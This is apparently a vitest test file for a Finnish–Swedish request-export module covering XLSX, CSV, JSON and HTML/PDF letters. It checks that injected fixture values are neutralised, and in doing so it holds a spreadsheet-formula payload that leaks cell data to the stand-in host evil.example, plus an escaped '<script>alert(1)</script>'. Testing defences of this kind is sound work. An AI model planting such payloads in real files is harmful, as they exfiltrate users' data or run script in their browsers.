/**
 * Each export format rendered from real request views and read back: XLSX opened with exceljs
 * and unzipped (no formula anywhere), CSV parsed, JSON re-imported into a fresh database,
 * letters in HTML (escaped) and PDF (a page set per recipient).
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { listChangeRequests } from '../../db/queries/change-requests';
import { findRegion } from '../../db/queries/regions';
import { buildRequestViews } from '../../server/engine/change-request-view';
import { exportColumns } from '../../server/export/export-rows';
import { importRequestsJson } from '../../server/export/import-requests-json';
import type { ExportMeta } from '../../server/export/recipient-groups';
import { renderCsv } from '../../server/export/render-csv';
import { portableRequest, renderJson } from '../../server/export/render-json';
import { renderLettersHtml } from '../../server/export/render-letters-html';
import { renderLettersPdf } from '../../server/export/render-letters-pdf';
import { renderXlsx } from '../../server/export/render-xlsx';
import type { ChangeRequestView } from '../../shared/schemas/change-requests-api';
import { tempDir } from '../helpers/temp-db';
import { HYPERLINK, insertFixtureRequests } from './exports-fixture';
import { CLOCK, REGION, XSS, reviewFixture } from './review-fixture';

let f: Awaited<ReturnType<typeof reviewFixture>>;
let views: ChangeRequestView[];
let meta: ExportMeta;
beforeAll(async () => {
  f = await reviewFixture();
  insertFixtureRequests(f.context.handle);
  const records = listChangeRequests(f.context.handle, { regionCode: REGION, states: ['ready'] });
  views = buildRequestViews(f.context.handle, f.context.catalogue, records);
  const region = findRegion(f.context.handle.db, REGION)!;
  meta = { region: { code: region.code, name: region.name }, exportedAt: CLOCK.toISOString(), exportedBy: 'Päivi Pääkäyttäjä', language: 'fi' };
});
afterAll(() => f.cleanup());

async function zipTexts(body: Buffer): Promise<Record<string, string>> {
  const zip = await JSZip.loadAsync(body);
  const out: Record<string, string> = {};
  for (const name of Object.keys(zip.files)) if (!zip.files[name]!.dir) out[name] = await zip.file(name)!.async('string');
  return out;
}

describe('XLSX', () => {
  it('has a summary sheet and a sheet per recipient with a frozen, filterable bilingual header', async () => {
    expect(views).toHaveLength(4);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await renderXlsx(views, meta)) as never);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Yhteenveto - Sammanfattning', 'DigiFinland', 'Itä-Uudenmaan hyvinvointialue', 'Esimerkkikunta', 'Perheyhdistys ry']);
    const town = workbook.getWorksheet('Esimerkkikunta')!;
    expect(town.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(town.autoFilter).toBe(`A1:${town.getColumn(exportColumns.length).letter}1`);
    const header = (town.getRow(1).values as unknown[]).slice(1);
    expect(header.slice(0, 5)).toEqual(['Tunnus / Kod', 'Tila', 'Tillstånd', 'Pyyntö', 'Begäran']);
    const row = Object.fromEntries(exportColumns.map((c, i) => [c.key, town.getRow(2).getCell(i + 1).value]));
    expect(row).toMatchObject({ code: 'LP-2026-0001', stateFi: 'Valmis lähetettäväksi', stateSv: 'Klar att skickas', serviceNameFi: 'Perheneuvola', serviceNameSv: 'Familjerådgivning', reason: HYPERLINK });
    expect(row['articlesFi']).toBe('Vauvan uni; Yövalvominen');
    expect(row['articlesSv']).toBe('Babyns sömn; Yövalvominen');
    expect(town.getColumn(1).width).toBeGreaterThan(8);
    const county = workbook.getWorksheet('Itä-Uudenmaan hyvinvointialue')!;
    const proposed = exportColumns.findIndex((c) => c.key === 'proposedSv') + 1;
    expect(county.getRow(2).getCell(proposed).value).toBe('Familjearbete\n\nStöd i hemmet för barnfamiljer.\n\nEn familjearbetare kommer hem till er.');
    const summary = workbook.worksheets[0]!;
    const counts = summary.getSheetValues().filter(Boolean).map((r) => (r as unknown[]).slice(1));
    expect(counts).toContainEqual(['Esimerkkikunta', 0, 1, 0, 0, 0, 0, 0, 1]);
    expect(counts.at(-1)).toEqual(['Yhteensä / Totalt', 0, 4, 0, 0, 0, 0, 0, 4]);
  });

  it('writes the =HYPERLINK reason as a text cell, never a formula (no <f> anywhere)', async () => {
    const body = await renderXlsx(views, meta);
    const parts = await zipTexts(body);
    for (const [name, xml] of Object.entries(parts)) expect(xml, name).not.toMatch(/<f[\s>]/);
    expect(parts['xl/sharedStrings.xml']).toContain('=HYPERLINK(');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(body as never);
    const cell = workbook.getWorksheet('Esimerkkikunta')!.getRow(2).getCell(exportColumns.findIndex((c) => c.key === 'reason') + 1);
    // The guard chosen in render-xlsx.ts: a string cell in the Text format, no visible apostrophe.
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(HYPERLINK);
    expect(cell.numFmt).toBe('@');
  });

  it('keeps a file that opens when a text holds a NUL or a lone surrogate', async () => {
    const odd = { ...views[0]!, reason: `a\u0000b\uD800c` };
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await renderXlsx([odd], meta)) as never);
    const cell = workbook.worksheets[1]!.getRow(2).getCell(exportColumns.findIndex((c) => c.key === 'reason') + 1);
    expect(cell.value).toBe('a\uFFFDb\uFFFDc');
  });
});

describe('CSV', () => {
  const read = (body: Buffer, delimiter: string) => parse(body.toString('utf8').replace(/^\uFEFF/, ''), { delimiter, relax_column_count: false }) as string[][];

  it('is UTF-8 with a BOM, ";" by default, header plus a row per request, every formula neutralised', () => {
    const body = renderCsv(views);
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = read(body, ';');
    expect(rows[0]).toEqual(exportColumns.map((c) => c.header));
    expect(rows).toHaveLength(5);
    const reason = exportColumns.findIndex((c) => c.key === 'reason');
    const town = rows.find((r) => r[0] === 'LP-2026-0001')!;
    expect(town[reason]).toBe(`'${HYPERLINK}`);
    expect(rows.find((r) => r[0] === 'LP-2026-0004')![exportColumns.findIndex((c) => c.key === 'proposedFi')]).toContain('Perhetyöntekijä tulee kotiin.\nKäynnit sovitaan yhdessä.');
    expect(body.toString('utf8')).toContain('\r\n');
  });

  it('uses "," on request', () => {
    const rows = read(renderCsv(views, ','), ',');
    expect(rows[0]![0]).toBe('Tunnus / Kod');
    expect(rows).toHaveLength(5);
    expect(rows.every((r) => r.length === exportColumns.length)).toBe(true);
  });
});

describe('JSON', () => {
  it('re-imports into a fresh database as the same requests', async () => {
    const body = renderJson(views, meta);
    const document = JSON.parse(body.toString('utf8')) as { format: string; version: number; region: string; requests: unknown[] };
    expect(document).toMatchObject({ format: 'linkkipaja.change-requests', version: 1, region: REGION, exportedAt: CLOCK.toISOString() });
    const file = join(tempDir(), 'requests.json');
    writeFileSync(file, body);

    const fresh = await reviewFixture();
    try {
      const result = await importRequestsJson(fresh.context.handle, file, { now: () => CLOCK });
      expect(result.inserted).toEqual(['LP-2026-0001', 'LP-2026-0002', 'LP-2026-0003', 'LP-2026-0004']);
      const copied = listChangeRequests(fresh.context.handle, { regionCode: REGION }).map(portableRequest);
      expect(copied).toEqual(views.map(portableRequest));
      // Identical again: skipped, nothing new.
      expect(await importRequestsJson(fresh.context.handle, file)).toMatchObject({ inserted: [], skipped: result.inserted });
    } finally {
      fresh.cleanup();
    }
  });
});

describe('letters', () => {
  it('HTML: a letter per recipient with its requests, every text escaped, a page break between', () => {
    const html = renderLettersHtml(views, meta).toString('utf8');
    expect(html.match(/<section class="letter">/g)).toHaveLength(4);
    expect(html).toContain('break-before: page');
    expect(html).toContain('@media print');
    expect(html).not.toContain(XSS);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('Lähettäjä');
    expect(html).toContain('20. marraskuuta 2026');
    const letters = html.split('<section class="letter">').slice(1);
    const town = letters.find((l) => l.includes('Esimerkkikunta'))!;
    expect(town).toContain('LP-2026-0001');
    expect(town).not.toContain('LP-2026-0002');
    expect(town).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1');
    expect(letters.find((l) => l.includes('LP-2026-0004'))).toContain('Perhetyö');
  });

  it('HTML in Swedish', () => {
    const html = renderLettersHtml(views, { ...meta, language: 'sv' }).toString('utf8');
    expect(html).toContain('<html lang="sv">');
    expect(html).toContain('Avsändare');
    expect(html).toContain('20 november 2026');
    expect(html).toContain('Familjerådgivning');
  });

  it('PDF: a %PDF file whose letters each start on a page of their own', async () => {
    const pages = (body: Buffer) => (body.toString('latin1').match(/\/Type \/Page\b/g) ?? []).length;
    const all = await renderLettersPdf(views, meta, { compress: false });
    expect(all.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    let separately = 0;
    const recipients = new Set(views.map((v) => `${v.recipient.kind}:${v.recipient.organizationId}`));
    for (const key of recipients) separately += pages(await renderLettersPdf(views.filter((v) => `${v.recipient.kind}:${v.recipient.organizationId}` === key), meta, { compress: false }));
    expect(recipients.size).toBe(4);
    expect(pages(all)).toBe(separately);
    expect(pages(all)).toBeGreaterThanOrEqual(4);
  });
});
